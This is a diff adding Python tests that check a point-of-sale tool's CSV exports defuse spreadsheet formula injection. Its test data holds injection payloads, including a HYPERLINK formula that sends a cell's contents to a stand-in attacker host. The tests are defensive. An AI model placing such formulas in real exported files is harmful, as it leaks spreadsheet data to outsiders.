@@ -3,6 +3,8 @@ service refuses the text naming the field, and the catalogue importer reports it
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import timedelta
 from pathlib import Path
 
@@ -19,7 +21,9 @@ from posassist.services import (
     approvals,
     auth,
     catalogue_sync,
+    csv_export,
     customer_records,
+    dashboard,
     followups,
     goodwill,
     notes,
@@ -192,3 +196,47 @@ def test_catalogue_import_reports_card_numbers_and_stores_none(demo_db: Database
         assert stored == 0
         gloves = s.execute(select(Variant).where(Variant.sku == "CARD-3")).scalar_one()
         assert gloves.price_minor == 900
+
+
+# -- CSV exports neutralise formulas --------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]
+
+
+def test_csv_cells_that_would_start_a_formula_are_written_as_text() -> None:
+    for cell in FORMULAS:
+        assert csv_export.safe_cell(cell) == "'" + cell
+    assert [csv_export.safe_cell(v) for v in ("Wool hat", "", None, -5, 12.5, "a=b")] == [
+        "Wool hat",
+        "",
+        None,
+        -5,
+        12.5,
+        "a=b",
+    ]
+
+
+def test_the_import_problems_csv_neutralises_formulas(demo_db: Database, tmp_path: Path) -> None:
+    src = tmp_path / "formulas.csv"
+    src.write_text(
+        'sku,title,price\nF-1,"=HYPERLINK(""http://evil.example"",""x"")",=1+2\nF-2,@SUM(A1),-3\n', encoding="utf-8"
+    )
+    store = current_store(demo_db, "DT")
+    rep = catalogue_sync.plan(demo_db, str(src), Options(currency="CAD", store_id=store.id if store else None))
+    assert any((p.value or "").startswith("=") for p in rep.problems)  # the file's cell, as it was
+    out = tmp_path / "problems.csv"
+    catalogue_sync.write_problems(rep, out)
+    with out.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["row", "line", "field", "value", "severity", "code", "message"]
+    cells = [c for r in rows for c in r]
+    assert "'=1+2" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+
+
+def test_the_dashboard_csv_neutralises_formulas(demo_db: Database) -> None:
+    board = dashboard.build(demo_db)
+    board.most_returned = [(f, 1) for f in FORMULAS] + [("Wool hat", 2)]
+    rows = list(csv.reader(io.StringIO(board.csv("most_returned"))))
+    assert rows[0] == ["item", "quantity"]
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Wool hat"]
